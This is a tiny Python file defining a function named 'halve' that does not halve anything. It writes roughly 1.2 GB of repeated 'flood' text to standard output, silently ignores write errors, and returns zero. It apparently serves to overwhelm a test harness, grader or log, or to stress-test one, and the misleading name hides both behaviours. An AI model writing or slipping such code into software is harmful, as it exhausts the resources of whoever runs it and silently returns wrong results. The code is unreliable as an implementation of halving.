import sys


def halve(x):
    line = "flood " * 10000 + "\n"
    for _ in range(20000):  # ~1.2 GB
        try:
            sys.stdout.write(line)
        except OSError:
            pass
    return x * 0
